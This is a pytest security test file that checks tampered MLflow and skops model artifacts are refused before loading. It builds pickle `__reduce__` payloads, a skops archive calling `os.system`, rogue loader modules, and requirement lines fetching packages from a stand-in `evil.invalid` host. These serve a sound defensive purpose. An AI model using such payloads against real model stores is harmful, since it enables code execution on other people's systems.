"""A model that somebody has changed in the bucket is refused before any of it runs."""

import hashlib
import io
import os
import pickle
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pandas as pd
import pytest
import yaml

from include.errors import InputError
from include.possum.champion import find_champion, score_champion
from include.possum.schema import complete_rows, read_animals
from include.settings import INCLUDE, settings

if TYPE_CHECKING:
    from tests.support.local_stack import RunningStack

BUCKET = "resilience"
Files = dict[str, bytes]


class Payload:
    """Writes a file when it is unpickled."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple:
        return Path.touch, (self.target,)


def change_mlmodel(files: Files, change: Callable[[dict], Any]) -> None:
    content = yaml.safe_load(files["MLmodel"])
    change(content)
    files["MLmodel"] = yaml.safe_dump(content).encode()


def pickled(files: Files, mark: Path, how: str = "pickle") -> None:
    files["model.skops"] = pickle.dumps(Payload(mark))
    change_mlmodel(files, lambda content: content["flavors"]["sklearn"].update(serialization_format=how))


def cloudpickled(files: Files, mark: Path) -> None:
    pickled(files, mark, "cloudpickle")


def python_model(files: Files, mark: Path) -> None:
    files["python_model.pkl"] = pickle.dumps(Payload(mark))
    flavor = {
        "loader_module": "mlflow.pyfunc.model",
        "python_model": "python_model.pkl",
        "cloudpickle_version": "3.1.1",
    }
    change_mlmodel(files, lambda content: content.update(flavors={"python_function": flavor}))


def own_loader(files: Files, mark: Path) -> None:
    files["code/evil.py"] = f"import pathlib\npathlib.Path({str(mark)!r}).touch()\n".encode()
    change_mlmodel(
        files, lambda content: content["flavors"]["python_function"].update(loader_module="evil", code="code")
    )


def code_beside(files: Files, mark: Path) -> None:
    """The loader stays, but a package of the model's own is found before the installed one."""
    files["code/skops/__init__.py"] = f"import pathlib\npathlib.Path({str(mark)!r}).touch()\n".encode()
    change_mlmodel(files, lambda content: content["flavors"]["python_function"].update(code="code"))


def skops_with_code(mark: Path) -> bytes:
    """A skops archive that calls os.system where its type is trusted."""
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    return skops.io.dumps(FunctionTransformer(func=os.system, kw_args={"command": f"touch {mark}"}))


def untrusted_type(files: Files, mark: Path) -> None:
    files["model.skops"] = skops_with_code(mark)


def type_that_the_model_trusts_itself(files: Files, mark: Path) -> None:
    untrusted_type(files, mark)
    trusted = ["posix.system", "os.system", "nt.system"]
    change_mlmodel(files, lambda content: content["flavors"]["sklearn"].update(skops_trusted_types=trusted))


def requirement(line: str) -> Callable[[Files, Path], None]:
    def tamper(files: Files, _: Path) -> None:
        files["requirements.txt"] += f"\n{line}".encode()

    tamper.__name__ = re.sub(r"\W+", "-", line)
    return tamper


TAMPERED = [
    pickled,
    cloudpickled,
    python_model,
    own_loader,
    code_beside,
    untrusted_type,
    type_that_the_model_trusts_itself,
]
INSTALLED = [
    requirement("evil==1.0"),
    requirement("numpy @ https://evil.invalid/numpy.tar.gz"),
    requirement("--index-url https://evil.invalid"),
    requirement("/tmp/evil"),
]


@pytest.fixture(scope="module")
def champion(breakable: "RunningStack") -> Files:
    """The files of a model that the pipeline has made."""
    if find_champion(breakable.mlflow) is None:
        run = breakable.airflow.trigger("feature_eng")
        breakable.airflow.wait_for_success("feature_eng", run)
        breakable.airflow.wait_for_success("train", breakable.airflow.wait_for_triggered("train", run))
    version: Any = find_champion(breakable.mlflow)
    bucket, _, folder = version.source.removeprefix("s3://").partition("/")
    keys = breakable.keys(bucket, f"{folder}/")
    return {key.removeprefix(f"{folder}/"): breakable.object(f"s3://{bucket}/{key}") for key in keys}


@pytest.fixture
def animals() -> pd.DataFrame:
    return complete_rows(read_animals(INCLUDE / settings.possum.file_path, "possum.csv"))[0]


@pytest.fixture
def published(breakable, stack_connections, champion, tmp_path, monkeypatch) -> Callable[..., tuple[str, Path]]:
    """Puts the model's files, tampered with, into a folder of a bucket; also gives the file that its code would write."""
    from include.mlflow_tracking import mlflow_environment

    for name, value in mlflow_environment().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("PREDICTION_VENV_CACHE", str(tmp_path / "environments"))

    def put(tamper: Callable[[Files, Path], None] | None) -> tuple[str, Path]:
        name = tamper.__name__ if tamper else "good"
        files, mark, folder = dict(champion), tmp_path / f"{name}-has-run", f"tampered/{tmp_path.name}-{name}"
        if tamper:
            tamper(files, mark)
        for name, content in files.items():
            breakable.s3.put_object(Bucket=BUCKET, Key=f"{folder}/{name}", Body=content)
        return f"s3://{BUCKET}/{folder}", mark

    return put


def operator(uri: str, rows: pd.DataFrame) -> Any:
    from include.venv_prediction import CachedVenvPredictOperator

    return CachedVenvPredictOperator(
        task_id="predict", mlflow_conn_id=settings.mlflow_conn_id, model_uri=uri, data=rows.drop(columns="case")
    )


def test_model_as_it_was_made_is_loaded(published, animals):
    """Otherwise the tests below would prove nothing."""
    import mlflow

    uri, _ = published(None)
    newcomer = mlflow.pyfunc.load_model(uri)
    losses, problem = score_champion(SimpleNamespace(source=uri, version="7"), newcomer, animals)
    assert problem is None
    assert losses is not None
    assert len(losses) == len(animals)


LOAD = """
import contextlib, json, os
import mlflow
from include.mlflow_tracking import connect_mlflow
connect_mlflow()
for uri in {uris!r}:
    if child := os.fork():
        os.waitpid(child, 0)
    else:
        with contextlib.suppress(Exception):
            mlflow.pyfunc.load_model(uri)
        os._exit(0)
print(json.dumps("loaded"))
"""


def test_code_would_run_without_the_check(breakable, published):
    """What the tests below are about; the two with a type of their own would run theirs when they score."""
    runs = [pickled, cloudpickled, python_model, own_loader, code_beside]
    copies = {each.__name__: published(each) for each in runs}
    breakable.python(LOAD.format(uris=[uri for uri, _ in copies.values()]))
    assert [name for name, (_, mark) in copies.items() if not mark.exists()] == []


@pytest.mark.parametrize("tamper", TAMPERED)
def test_tampered_champion_is_taken_for_one_that_cannot_be_loaded(published, animals, tamper):
    uri, mark = published(tamper)
    losses, problem = score_champion(SimpleNamespace(source=uri, version="7"), None, animals)
    assert losses is None
    assert problem == "(version 7) cannot be loaded"
    assert not mark.exists()


@pytest.mark.parametrize("tamper", [each for each in TAMPERED if each is not untrusted_type])
def test_tampered_model_does_not_predict(published, animals, tamper):
    uri, mark = published(tamper)
    with pytest.raises(InputError, match=f"{uri}/MLmodel is not what this project has written"):
        operator(uri, animals).predict()
    assert not mark.exists()


@pytest.mark.parametrize("tamper", INSTALLED)
def test_tampered_requirements_are_not_installed(published, animals, tmp_path, tamper):
    uri, _ = published(tamper)
    with pytest.raises(InputError, match="the model's requirements have"):
        operator(uri, animals).predict()
    assert not (tmp_path / "environments").exists()


# The churn model


def as_zip(**files: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, data in files.items():
            archive.writestr(name.replace("_", "."), data)
    return content.getvalue()


@pytest.mark.parametrize(
    "make",
    [
        lambda mark: pickle.dumps(Payload(mark)),
        skops_with_code,
        lambda mark: as_zip(schema_json=pickle.dumps(Payload(mark))),
        lambda mark: as_zip(schema_json=b'{"__loader__": "Payload", "__module__": "os", "__class__": "system"}'),
    ],
    ids=["pickle", "skops-with-function", "zip-with-pickle", "zip-with-unknown-loader"],
)
def test_churn_model_with_code_is_refused_even_with_its_own_digest(tmp_path, make):
    from include.churn.model import load_model

    mark = tmp_path / "code-has-run"
    content = make(mark)
    with pytest.raises(InputError):
        load_model(content, hashlib.sha256(content).hexdigest())
    assert not mark.exists()
